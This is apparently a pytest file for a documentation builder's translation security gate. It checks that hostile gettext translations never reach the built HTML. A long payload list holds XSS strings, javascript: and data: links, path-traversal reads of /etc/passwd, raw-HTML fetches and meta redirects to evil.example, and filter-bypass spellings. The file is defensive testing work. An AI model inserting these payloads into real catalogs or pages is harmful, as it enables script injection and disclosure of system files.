"""The security gate of the site build: hostile msgstrs never reach _build/html.

A small docs tree (reST and MyST) whose catalogs carry an injection corpus, built with
real Sphinx through `jaxko site build`: no payload's effect appears in the output (no
file content from outside the tree, no script/data URL, no script or event handler the
English page lacks), each payload is reported with its catalog line, and `--strict`
fails. A clean catalog of the same tree builds with nothing blocked.
"""

from __future__ import annotations

import contextlib
import os
import re
import tempfile
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlparse

import nbformat

import polib
import pytest

from conftest import run_jaxko
from test_site_browser import browser, page  # noqa: F401
from jaxko.site import build as site_build
from jaxko.site import gate as site_gate
from jaxko.site.ext import gate as ext_gate

OUTSIDE = "../" * 12 + "etc/passwd"
PWNED = Path(tempfile.gettempdir()) / f"jaxko-gate-plot-{os.getpid()}"
# Written by docs/scripts/pwn.py, which a `.. plot:: scripts/pwn.py` msgstr would run.
PWNED_SCRIPT = Path(tempfile.gettempdir()) / f"jaxko-gate-script-{os.getpid()}"
SECRET = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]

# (page, msgstr payload). Each msgid is "Paragraph N of <page>." in the English page.
PAYLOADS = [
    ("page", f"{{download}}`비밀 <{OUTSIDE}>`을 받으세요."),
    ("index", f":download:`비밀 <{OUTSIDE}>`을 받으세요."),
    ("index", ".. raw:: html\n   :file: /etc/passwd"),
    ("index", ".. raw:: html\n   :url: https://evil.example/x.html"),
    ("page", "[여기](javascript:alert(1))를 누르세요."),
    ("index", "`여기 <javascript:alert(1)>`_ 를 누르세요."),
    ("index", ".. include:: /etc/passwd"),
    ("index", ".. literalinclude:: /etc/passwd"),
    ("index", f".. image:: {OUTSIDE}"),
    ("page", f"![그림]({OUTSIDE})"),
    ("page", f"```{{figure}} {OUTSIDE}\n```"),
    ("page", "안녕하세요 <script>alert(1)</script>"),
    ("page", "사진 <img src=x onerror=alert(1)>"),
    ("page", "[데이터](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("page", "[클릭](vbscript:msgbox(1))"),
    ("page", "```{raw} html\n<script>alert(2)</script>\n```"),
    ("page", "<div onclick=\"alert(3)\">눌러 보세요</div>"),
    ("page", "<iframe src=\"https://evil.example\"></iframe>"),
    ("page", "```{eval-rst}\n.. raw:: html\n\n   <script>alert(4)</script>\n```"),
    # Ways around a pattern: reST escapes, spacing, substitutions, role definitions.
    ("index", "`여기 <java\\script:alert(5)>`_ 를 누르세요."),
    ("index", "본문.\n\n.. raw :: html\n   :file: /etc/passwd"),
    ("index", "본문 |x|.\n\n.. |x| raw:: html\n   :file: /etc/passwd"),
    ("index", "본문 :h:`<script>alert(6)</script>`.\n\n.. role:: h(raw)\n   :format: html"),
    # Directives that read files, run code or change the page.
    ("index", "본문.\n\n.. csv-table:: 표\n   :file: /etc/passwd"),
    ("index", f"본문.\n\n.. mermaid:: {OUTSIDE}"),
    ("index", f"본문.\n\n.. plot::\n\n   open({str(PWNED)!r}, 'w').write('x')"),
    ("index", "본문.\n\n.. meta::\n   :http-equiv=refresh: 0; url=https://evil.example/"),
    ("page", "```{csv-table} 표\n:file: /etc/passwd\n```"),
    ("page", "본문 <a href=\"jav&#97;script:alert(7)\">여기</a>"),
    # Links with other schemes (MyST's path: copies the file it names).
    ("page", f"[비밀](path:{OUTSIDE})을 받으세요."),
    ("page", "[전화](tel:+82-2-123-4567) 주세요."),
    ("index", "`앱 <intent://scan/#Intent;scheme=zxing;end>`_ 을 여세요."),
    ("index", "여기 `t`_ 를 보세요.\n\n.. _t: custom:thing"),
    # HTML blocks and links in notebook Markdown cells.
    ("nb", "<div onmouseover=\"alert(8)\">마우스를 올려 보세요</div>"),
    ("nb", "<script>alert(9)</script>"),
    ("nb", "[여기](javascript:alert(10))를 누르세요."),
    ("nb", f"![그림]({OUTSIDE})"),
    # Spellings no pattern above was written for: the parsers decide (safety.structure).
    ("page", "본문 <?x><img src=x onerror=alert(20)>?> 끝"),  # a processing instruction
    ("page", "본문 <![CDATA[><img src=x onerror=alert(21)>]]> 끝"),
    ("page", "<div>\n<img/src/onerror=alert(22)>\n</div>"),  # handler after `/`
    ("page", "[문서](https:evil.example/a)를 보세요."),  # no `//`: still a foreign link
    ("page", "<https://evil.example/auto> 를 보세요."),
    ("page", "[문서][e]를 보세요.\n\n[e]: https://evil.example/def"),
    ("page", "본문 <svg onload=alert(23)></svg>"),
    ("page", "본문 <math><mtext><script>alert(24)</script></mtext></math>"),
    ("page", "<a href=\"https://evil.example\" style=\"position:fixed;top:0\">클릭</a>"),
    ("page", "<form action=\"https://evil.example/f\"><input name=q></form>"),
    ("page", "---\nhtml_meta:\n  http-equiv=refresh: 0; url=https://evil.example/\n---\n본문"),
    ("page", ":::{raw} html\n<script>alert(25)</script>\n:::"),
    ("page", "본문 {ref}`genindex` 와 {doc}`index`"),
    ("page", "<details open ontoggle=alert(26)>본문</details>"),
    # A MyST entry whose `#:` line claims a reST file: the real document decides.
    ("page", "JAX <script>alert(27)</script>", {"occurrence": "index.rst"}),
    # A translator comment cannot lift a safety decision.
    ("page", "<script>alert(28)</script>", {"tcomment": "jaxko: ignore"}),
    ("index", "본문.\n\n.. raw:: html\n\n   <script>alert(29)</script>",
     {"tcomment": "jaxko: ignore safety -- reviewed"}),
    ("index", "`여기 <https:evil.example/b>`_ 를 누르세요."),
    ("index", "본문 https:evil.example/c 참고"),  # a standalone URI without `//`
    ("index", "본문.\n\n.. plot:: scripts/pwn.py"),  # a directive with an argument, no body
    ("index", "본문 :ref:`genindex`\\ 을 보세요."),
    ("index", "본문 user@evil.example 로 메일을 보내세요."),
    ("index", "본문 `e`_ 를 보세요.\n\n.. _e: https://evil.example/t"),
    ("index", "본문 |y|.\n\n.. |y| replace:: 치환"),
    ("index", "본문.\n\n.. role:: h(raw)\n   :format: html\n\n:h:`<script>alert(30)</script>`"),
    ("index", "`여기 <javascript&#58;alert(31)>`_ 를 누르세요."),
    ("nb", "본문 <?x><img src=x onerror=alert(32)>?>"),
    ("nb", "[여기](https:evil.example/nb)를 누르세요."),
    ("nb", "<details open ontoggle=alert(33)>본문</details>"),
    ("nb", f"본문 {{download}}`비밀 <{OUTSIDE}>`"),
]
PAGES = {"index": "rst", "page": "md", "nb": "ipynb"}
CLEAN = "번역된 문단입니다."
# The builds here run in conftest's warm Sphinx process (a fresh fork per build). All but
# the published hostile build skip Kiwi's nouns in the search index: search is not what
# they test, and the model's load is most of a small build's time.
NO_KIWI = {"jaxko_search_morphology": "0"}


def _build(docs: Path, outdir: Path, locale: Path, sphinx, **overrides) -> site_build.SiteResult:
    return site_build.build(execute=False, srcdir=docs, outdir=outdir, locale_dir=locale,
                            sphinx=sphinx, overrides={**NO_KIWI, **overrides})


def _tree(tmp: Path, hostile: bool) -> tuple[Path, Path]:
    docs = tmp / "docs"
    docs.mkdir()
    counts = {page: 1 + sum(1 for p, *_ in PAYLOADS if p == page) for page in PAGES}
    paragraphs = {page: [f"Paragraph {i} of {page}." for i in range(1, counts[page] + 1)]
                  for page in PAGES}  # the last one of each page stays clean
    (docs / "scripts").mkdir()
    (docs / "scripts" / "pwn.py").write_text(f"open({str(PWNED_SCRIPT)!r}, 'w').write('ran')\n",
                                             encoding="utf-8")
    (docs / "index.rst").write_text(
        "Gate test\n=========\n\n.. toctree::\n\n   page\n   nb\n\n"
        + "".join(f"{p}\n\n" for p in paragraphs["index"]), encoding="utf-8")
    (docs / "page.md").write_text(
        "# Page\n\n" + "".join(f"{p}\n\n" for p in paragraphs["page"]), encoding="utf-8")
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Notebook")] + [
        nbformat.v4.new_markdown_cell(p) for p in paragraphs["nb"]])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                       "language": "python"}
    nbformat.write(notebook, str(docs / "nb.ipynb"))
    locale = tmp / "locale"
    out = locale / "ko" / "LC_MESSAGES"
    out.mkdir(parents=True)
    seen = dict.fromkeys(PAGES, 0)
    catalogs = {name: polib.POFile() for name in PAGES}
    for name, catalog in catalogs.items():
        catalog.metadata = {"Content-Type": "text/plain; charset=UTF-8",
                            "Plural-Forms": "nplurals=1; plural=0;"}
    for page, payload, *extra in PAYLOADS:
        seen[page] += 1
        extra = extra[0] if extra else {}
        catalogs[page].append(polib.POEntry(
            msgid=f"Paragraph {seen[page]} of {page}.",
            msgstr=payload if hostile else CLEAN,
            tcomment=extra.get("tcomment", ""),
            occurrences=[(extra.get("occurrence", f"{page}.{PAGES[page]}"), str(seen[page]))]))
    for page, catalog in catalogs.items():
        catalog.append(polib.POEntry(msgid=f"Paragraph {counts[page]} of {page}.", msgstr=CLEAN))
        catalog.save(str(out / f"{page}.po"))
    return docs, locale


class _Active(HTMLParser):
    """What in a page's HTML could act: script-like tags, handlers, non-web links."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "meta", "base", "form", "svg",
                   "math", "details"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag} {name}=")
            if name in ("href", "src") and value and re.match(
                    r"\s*(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", re.sub(r"[\t\n\r]", "", value), re.I):
                self.found.append(f"{tag} {name}={value}")


def active_parts(html: str) -> list[str]:
    parser = _Active()
    parser.feed(html)
    return parser.found


def _articles(outdir: Path) -> str:
    whole = "\n".join((outdir / f"{n}.html").read_text(encoding="utf-8") for n in PAGES)
    articles = re.findall(r"<article.*?</article>", whole, re.S)
    assert len(articles) == len(PAGES)
    return "\n".join(articles)


def _no_effect(outdir: Path, *, gated: bool = True) -> None:
    """None of the payloads' effects is in the built site (ungated: a new https link may
    show, as text the reader sees; nothing from outside, nothing that acts)."""
    assert SECRET not in _output_text(outdir)  # no file content from outside the tree
    assert not list(outdir.rglob("passwd"))
    assert not PWNED.exists() and not PWNED_SCRIPT.exists()  # no code ran
    whole = "\n".join((outdir / f"{n}.html").read_text(encoding="utf-8") for n in PAGES)
    assert not re.search(r"""href=["']?\s*(?:javascript|data|vbscript):""", whole, re.I)
    assert not re.search(r"<meta[^>]*http-equiv", whole, re.I)
    assert "evil.example" not in whole or not gated
    # The theme has its own scripts and handlers; the translated content has none.
    assert active_parts(_articles(outdir)) == []


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, warm_sphinx):
    """The hostile tree built as published (the gate on, Korean search with Kiwi)."""
    tmp = tmp_path_factory.mktemp("gate")
    docs, locale = _tree(tmp, hostile=True)
    result = site_build.build(execute=False, srcdir=docs, outdir=tmp / "html", locale_dir=locale,
                              sphinx=warm_sphinx)
    return tmp, docs, locale, result


def _output_text(outdir: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8", errors="replace")
                     for p in outdir.rglob("*") if p.is_file())


def test_no_payload_reaches_the_output(hostile):
    _, _, _, result = hostile
    _no_effect(result.outdir)
    pages = _articles(result.outdir)
    assert "alert(" not in pages and "<iframe" not in pages
    # The refused messages keep the English; the clean ones are translated.
    assert "Paragraph 1 of page." in pages and "Paragraph 1 of nb." in pages
    assert pages.count(CLEAN) == len(PAGES)


def test_the_second_layer_holds_without_the_catalog_gate(second_layer_only):
    """With the catalog gate let through (as if a rule missed a payload), the Sphinx layer
    still keeps every effect off the site: no file insertion or raw content in a
    translated message, active HTML shown as text, only http/https/mailto links."""
    result = second_layer_only
    assert result.blocked == []
    _no_effect(result.outdir, gated=False)
    gate_warnings = [w for w in result.unexpected if "jaxko gate" in w or "disabled" in w]
    assert len(gate_warnings) >= 5, result.warnings


def test_every_payload_is_reported_with_its_catalog_line(hostile):
    _, _, locale, result = hostile
    reported = {(Path(b.path).name, b.msgid) for b in result.blocked}
    expected = set()
    seen = dict.fromkeys(PAGES, 0)
    for page, *_ in PAYLOADS:
        seen[page] += 1
        expected.add((f"{page}.po", f"Paragraph {seen[page]} of {page}."))
    assert reported == expected
    for blocked in result.blocked:
        lines = Path(blocked.path).read_text(encoding="utf-8").splitlines()
        # The line is the msgstr's (the one a translator edits); its msgid is just above.
        assert lines[blocked.line - 1].startswith("msgstr")
        assert blocked.msgid in "\n".join(lines[max(0, blocked.line - 4): blocked.line])
        assert blocked.rule.startswith("safety.")


def test_strict_build_fails_and_names_each_blocked_message(hostile, tmp_path):
    _, docs, locale, _ = hostile
    proc = run_jaxko("site", "build", "--no-execute", "--no-notebooks", "--strict",
                     "--srcdir", str(docs), "--outdir", str(tmp_path / "html"),
                     "--locale-dir", str(locale))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    blocked = [line for line in proc.stdout.splitlines() if line.startswith("blocked: ")]
    assert all(re.match(r"blocked: \S+\.po:\d+: safety\.", line) for line in blocked)
    # One message may break several rules: each is named; every payload is there.
    assert len({line.split(": ")[1] for line in blocked}) == len(PAYLOADS)
    assert "Traceback" not in proc.stderr
    # Stopped before Sphinx parsed anything: no page, no directive ran.
    assert not (tmp_path / "html").exists()
    assert not PWNED.exists() and not PWNED_SCRIPT.exists()


def test_clean_catalogs_build_with_nothing_blocked(tmp_path, warm_sphinx):
    docs, locale = _tree(tmp_path, hostile=False)
    result = _build(docs, tmp_path / "html", locale, warm_sphinx)
    assert result.blocked == []
    assert CLEAN in (result.outdir / "page.html").read_text(encoding="utf-8")


def test_a_source_download_outside_the_tree_is_not_copied(tmp_path, warm_sphinx):
    """The second layer: even a source page cannot pull a file from outside the tree."""
    docs, locale = _tree(tmp_path, hostile=False)
    with (docs / "page.md").open("a", encoding="utf-8") as handle:
        handle.write(f"\n{{download}}`secret <{OUTSIDE}>`\n")
    result = _build(docs, tmp_path / "html", locale, warm_sphinx)
    assert SECRET not in _output_text(result.outdir)
    assert any("outside the docs tree" in w for w in result.unexpected)


def test_html_in_a_rest_msgstr_is_shown_as_text_not_blocked(tmp_path, warm_sphinx):
    """reST has no inline HTML: docutils escapes `<script>` in a paragraph, so the check
    does not call it raw HTML there (safety.html is MyST-only) and the page shows it as
    text, with nothing that acts."""
    docs, locale = _tree(tmp_path, hostile=False)
    catalog = locale / "ko" / "LC_MESSAGES" / "index.po"
    po = polib.pofile(str(catalog))
    po.find("Paragraph 1 of index.").msgstr = "본문 <script>alert(11)</script> <img src=x onerror=alert(12)>"
    po.save(str(catalog))
    result = _build(docs, tmp_path / "html", locale, warm_sphinx)
    assert result.blocked == []
    pages = _articles(result.outdir)
    assert "본문 &lt;script&gt;alert(11)&lt;/script&gt;" in pages
    assert active_parts(pages) == []


def test_no_directive_runs_inside_a_translated_message(tmp_path, monkeypatch, warm_sphinx):
    """The Sphinx layer alone (the catalog gate let through): a reST msgstr
    `.. plot:: scripts/pwn.py`, a directive with an argument and no body, finds an empty
    directive table and runs nothing; the same directive in the English source does run
    the script in this build (so the test can fail). The source uses `plot` harmlessly
    too, so the directive is registered in both builds (conf.py loads matplotlib's
    extension only where a source uses it)."""
    monkeypatch.setattr(site_gate, "find_blocked", lambda *args, **kwargs: [])
    docs, locale = _tree(tmp_path, hostile=False)
    with (docs / "index.rst").open("a", encoding="utf-8") as handle:
        handle.write("\n.. plot::\n\n   harmless = 1\n")
    catalog = locale / "ko" / "LC_MESSAGES" / "index.po"
    po = polib.pofile(str(catalog))
    po.find("Paragraph 1 of index.").msgstr = "본문.\n\n.. plot:: scripts/pwn.py"
    po.save(str(catalog))
    PWNED_SCRIPT.unlink(missing_ok=True)
    result = _build(docs, tmp_path / "html", locale, warm_sphinx)
    assert not PWNED_SCRIPT.exists()
    assert any("directive `plot` in a translated message; not run" in w for w in result.warnings)
    with (docs / "index.rst").open("a", encoding="utf-8") as handle:
        handle.write("\n.. plot:: scripts/pwn.py\n")
    _build(docs, tmp_path / "html2", locale, warm_sphinx)
    try:
        assert PWNED_SCRIPT.exists(), "plot did not run even from the source: the test is void"
    finally:
        PWNED_SCRIPT.unlink(missing_ok=True)


def test_an_entry_is_blocked_by_its_key_not_by_its_text(tmp_path, warm_sphinx):
    """Two entries with one msgid, one with a msgctxt: the hostile one is refused, the
    other keeps its translation on the page (blocking is per entry)."""
    docs, locale = _tree(tmp_path, hostile=False)
    catalog = locale / "ko" / "LC_MESSAGES" / "page.po"
    po = polib.pofile(str(catalog))
    po.append(polib.POEntry(msgctxt="elsewhere", msgid="Paragraph 1 of page.",
                            msgstr="<script>alert(40)</script>",
                            occurrences=[("page.md", "99")]))
    po.save(str(catalog))
    result = _build(docs, tmp_path / "html", locale, warm_sphinx)
    assert {(b.msgctxt, b.msgid) for b in result.blocked} == {("elsewhere", "Paragraph 1 of page.")}
    gated = polib.pofile(str(tmp_path / "html-locale" / "ko" / "LC_MESSAGES" / "page.po"))
    assert gated.find("Paragraph 1 of page.").msgstr == CLEAN
    assert gated.find("Paragraph 1 of page.", msgctxt="elsewhere").msgstr == ""
    assert CLEAN in (result.outdir / "page.html").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def second_layer_only(tmp_path_factory, warm_sphinx):
    """The hostile tree built with the catalog gate let through: only Sphinx's layer
    (read by test_the_second_layer_holds_without_the_catalog_gate and the browser)."""
    tmp = tmp_path_factory.mktemp("ungated")
    docs, locale = _tree(tmp, hostile=True)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(site_gate, "find_blocked", lambda *args, **kwargs: [])
        return _build(docs, tmp / "html", locale, warm_sphinx)


@pytest.mark.browser
@pytest.mark.parametrize("layers", ["both", "sphinx-only"])
def test_no_payload_acts_in_the_browser(hostile, second_layer_only, page, layers):
    """Each hostile page opened in Chromium: no dialog, no request to another host, no
    handler, script, style attribute or script link in the translated content; with the
    catalog gate on, no link to a host the English lacks either (with Sphinx's layer
    alone, a new https link may remain: a link, not code)."""
    from test_site_browser import serve

    result = hostile[3] if layers == "both" else second_layer_only
    # A browser reads a scheme only at the start (`javascript&#58;x` stays a relative URL).
    scripts = r"^\s*(?:javascript|data|vbscript):"
    links = scripts + "|evil" if layers == "both" else scripts
    dialogs, foreign = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for served in serve(result.outdir):
        local = urlparse(served).netloc
        page.on("request", lambda request: urlparse(request.url).netloc not in ("", local)
                and foreign.append(request.url))
        for name in PAGES:
            page.goto(f"{served}/{name}.html")
            page.wait_for_load_state("networkidle")
            article = page.locator("article")
            assert article.count() == 1
            article.evaluate("(a, links) => { a.dataset.links = links }", links)
            found = article.evaluate("""a => { const LINKS = a.dataset.links;
                return [...a.querySelectorAll('*')].flatMap(e =>
                [...e.attributes].filter(x => x.name.startsWith('on') || x.name === 'style'
                    || ((x.name === 'href' || x.name === 'src' || x.name === 'action')
                        && new RegExp(LINKS, 'i').test(x.value)))
                  .map(x => e.tagName + ' ' + x.name + '=' + x.value)
                .concat(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'SVG'].includes(
                    e.tagName.toUpperCase()) ? [e.tagName] : [])) }""")
            assert found == [], (name, found)
            page.mouse.move(10, 10)
            page.wait_for_timeout(200)
    assert dialogs == [] and foreign == [], (dialogs, foreign)
    assert not PWNED.exists() and not PWNED_SCRIPT.exists()


@pytest.mark.parametrize("fragment, kept", [
    ("<br />", True), ("<br>", True), ("<b>", True), ("</b>", True), ("<sub>", True),
    ("<img src=x onerror=alert(1)>", False), ('<a href="https://jax.dev" onclick=x>', False),
    ('<a href="javascript:alert(1)">', False), ("<script>", False), ("</script>", False),
    ('<span style="position:fixed">', False), ("<iframe src=https://evil.example>", False),
])
def test_the_sanitizer_keeps_inline_html_and_removes_what_acts(fragment, kept):
    """MyST gives a translation's inline HTML tag by tag: the plain tags pass unchanged
    (so no warning), what acts does not."""
    cleaned = ext_gate.clean_html(fragment)
    assert ext_gate._same_html(cleaned, fragment) is kept, cleaned
    assert not re.search(r"on\w+=|javascript:|style=|<script|<iframe", cleaned, re.I)
